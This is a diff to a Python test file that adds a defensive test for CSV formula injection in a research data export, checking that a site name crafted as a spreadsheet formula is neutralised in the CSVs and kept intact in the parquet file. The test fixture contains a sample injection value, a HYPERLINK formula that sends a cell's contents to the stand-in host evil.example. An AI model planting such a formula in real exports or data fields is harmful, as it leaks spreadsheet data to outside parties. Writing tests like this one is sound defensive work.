@@ -245,3 +245,19 @@ def test_the_report_file_is_readable_by_its_owner_only(tmp_path):
     path.chmod(0o644)
     write_report(build_report(), path, "html")
     assert path.stat().st_mode & 0o777 == 0o600
+
+
+def test_a_site_named_like_a_formula_runs_nothing_in_the_csv_and_is_kept_in_the_parquet(tmp_path):
+    """A site is a name an admin typed (program.sites), and the research CSVs are opened in a spreadsheet."""
+    from kapstone.program.models import GroupSession
+
+    practice = build_practice()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    GroupSession.objects.filter(group=practice.group).update(site=formula)
+    research_export_write(actor_label="test", out_dir=tmp_path / "export")
+    doses = pd.read_csv(tmp_path / "export" / "doses.csv", dtype=str, keep_default_na=False)
+    assert set(doses["site"]) == {"'" + formula}
+    assert set(pq.read_table(tmp_path / "export" / "doses.parquet").to_pandas()["site"]) == {formula}
+    for path in (tmp_path / "export").glob("*.csv"):
+        cells = pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel()
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], path.name
